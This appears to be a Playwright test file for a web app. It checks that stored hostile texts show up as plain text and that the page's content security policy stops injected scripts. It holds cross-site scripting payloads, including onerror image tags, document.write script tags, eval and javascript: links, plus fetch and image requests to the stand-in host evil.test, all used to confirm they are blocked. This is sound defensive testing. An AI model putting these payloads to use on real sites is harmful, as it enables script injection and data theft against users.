import { expect, type Page, test } from '@playwright/test';
import { sitDown } from './desk.ts';
import { witness } from './hostile-text.ts';

/** What has run, was asked for elsewhere, or was stopped by the page's policy. */
async function watch(page: Page): Promise<string[]> {
  const seen: string[] = [];
  page.on('request', (request) => {
    if (new URL(request.url()).hostname.endsWith('evil.test')) seen.push(request.url());
  });
  page.on('dialog', async (dialog) => {
    seen.push(`a dialog: ${dialog.message()}`);
    await dialog.dismiss();
  });
  await page.exposeFunction('__ran', () => seen.push('a script'));
  await page.exposeFunction('__stopped', (what: string) => seen.push(`stopped: ${what}`));
  await page.addInitScript(() => {
    const { __stopped: tell } = window as unknown as { readonly __stopped: (what: string) => void };
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sourceFile }) =>
      tell(`${violatedDirective} ${blockedURI} ${sourceFile}`),
    );
  });
  return seen;
}

/** How many of the texts a record shows, once it is there: it comes in parts, from several collections. */
async function hostileTexts(page: Page): Promise<number> {
  let before = -1;
  let now = 0;
  const count = async (): Promise<boolean> => {
    before = now;
    now = (await page.getByRole('main').innerText()).match(/__ran|evil\.test|alert\(1\)/g)?.length ?? 0;
    return now > 0 && now === before;
  };
  await expect.poll(count, { intervals: [100] }).toBe(true);
  return now;
}

/** Elements and addresses that a text alone has no way to become. */
const active =
  'main :is(script, iframe, marquee, object, embed, base, math, animate), ' +
  ':is(a, area)[href^="javascript" i], :is(a, area)[href^="data" i], :is(a, area)[href^="vbscript" i]';

test('texts that are written to be run are shown as texts', async ({ browser }) => {
  const { page, close } = await sitDown(browser, witness);
  const seen = await watch(page);
  await page.reload();
  const places = page.getByRole('navigation').getByRole('link');
  await expect(places.first()).toBeVisible();
  let shown = 0;
  for (let place = 0; place < (await places.count()); place++) {
    await places.nth(place).click();
    const links = page.getByRole('main').getByRole('link');
    // Some places have nothing to open.
    await links
      .first()
      .waitFor({ timeout: 3_000 })
      .catch(() => {});
    for (let i = 0; i < Math.min(12, await links.count()); i++) {
      await links.nth(i).click();
      shown += await hostileTexts(page);
      expect(await page.locator(active).count()).toBe(0);
      await places.nth(place).click();
    }
  }
  expect(shown).toBeGreaterThan(500);
  await page.goto('/sign-in?to=/');
  await expect(page.getByText('<img src=x onerror=__ran()>').first()).toBeVisible();
  expect(await page.locator(active).count()).toBe(0);
  expect(seen).toEqual([]);
  await close();
});

test('what would run if an app made it part of its page is stopped by the page’s policy', async ({ page }) => {
  const seen = await watch(page);
  await page.goto('/');
  await expect(page.getByRole('link', { name: 'Sign in' })).toBeVisible();
  expect(seen).toEqual([]);
  const refused = await page.evaluate(() => {
    const attempts: readonly (() => unknown)[] = [
      () => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=__ran()>'),
      () => document.body.setAttribute('onclick', '__ran()'),
      () => document.write('<script>__ran()</script>'),
      () => Object.assign(document.createElement('iframe'), { srcdoc: '<script>top.__ran()</script>' }),
      () => Object.assign(document.createElement('script'), { text: '__ran()' }),
      () => Object.assign(document.createElement('script'), { src: 'http://evil.test/' }),
      () => new Function('__ran()')(),
      // biome-ignore lint/security/noGlobalEval: this is what the policy has to stop
      () => eval('__ran()'),
      () => new Worker('data:text/javascript,0'),
    ];
    const outcomeOf = (attempt: () => unknown): string => {
      try {
        attempt();
        return 'done';
      } catch {
        return 'refused';
      }
    };
    // Later: what a debugger evaluates may do what the page may not.
    return new Promise<readonly string[]>((resolve) => setTimeout(() => resolve(attempts.map(outcomeOf))));
  });
  expect(refused).toEqual(refused.map(() => 'refused'));
  await page.evaluate(() => {
    const link = document.body.appendChild(document.createElement('a'));
    link.href = 'javascript:__ran()';
    link.click();
    document.body.appendChild(document.createElement('img')).src = 'http://evil.test/image';
    return fetch('http://evil.test/read').catch(() => {});
  });
  const isStopped = (directive: string) => seen.some((what) => what.startsWith(`stopped: ${directive}`));
  for (const directive of ['script-src', 'img-src', 'connect-src'])
    await expect.poll(() => isStopped(directive)).toBe(true);
  expect(seen).not.toContain('a script');
});
